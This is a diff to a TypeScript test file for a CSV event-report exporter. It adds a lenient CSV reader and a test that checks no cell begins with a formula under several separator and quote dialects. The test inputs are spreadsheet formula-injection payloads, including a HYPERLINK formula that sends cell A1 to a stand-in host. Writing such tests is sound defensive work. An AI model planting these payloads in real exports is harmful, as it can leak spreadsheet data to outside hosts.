@@ -16,6 +16,26 @@ const event: Exported = {
 const sentence = ({ actor, subject, clientName }: Exported): string => `${actor.name} invited ${subject.name} to ${clientName}`
 const device = (type: number): string => `device ${type}`
 
+/** As a reader that bears everything: what stands behind a closing quote belongs to the cell. */
+function read(csv: string, separator: string, quote: string): string[] {
+  const cells = ['']
+  let quoted = false
+  let fresh = true
+  for (const sign of csv) {
+    if (!quoted && (sign === separator || sign === '\r' || sign === '\n')) {
+      cells.push('')
+      fresh = true
+      continue
+    }
+    if (sign === quote && (quoted || fresh))
+      quoted = !quoted
+    else
+      cells[cells.length - 1] += sign
+    fresh = false
+  }
+  return cells
+}
+
 describe('the report of events', () => {
   it('has one line for each event under its heading, quoted where needed', () => {
     expect(eventsToCsv([event], sentence, device).split('\r\n')).toEqual([
@@ -49,6 +69,17 @@ describe('the report of events', () => {
   ])('is one cell, and no formula, to a spreadsheet whose separator is another: %j', (clientName, cell) => {
     expect(eventsToCsv([{ ...event, clientName }], sentence, device)).toContain(`,${cell},`)
   })
+
+  it.each(['Acme;"=1+1;x', 'Acme;""=HYPERLINK("http://x.example/"&A1;"x");y', 'Acme; " "@SUM(A1)', 'Acme;"\t"-1', 'Acme\n"=1+1"', '"=1+1', 'Acme;'])(
+    'begins no cell with a formula, whatever a reader takes for separator and quotes: %j',
+    (name) => {
+      const told = { ...event, clientName: name, actor: { ...event.actor, name }, subject: { name } }
+      const csv = eventsToCsv([told, told], () => name, device)
+      const dialects = [[',', '"'], [';', '"'], ['\t', '"'], [';', ''], ['\t', '']] as const
+      const cells = dialects.flatMap(([separator, quote]) => read(csv, separator, quote))
+      expect(cells.filter(cell => /^\s*[=+\-@]/.test(cell))).toEqual([])
+    },
+  )
 
   it('leaves out what is not known, and ends without events after the heading', () => {
     expect(eventsToCsv([{ ...event, clientName: null, ip: null, deviceType: null }], sentence, device))
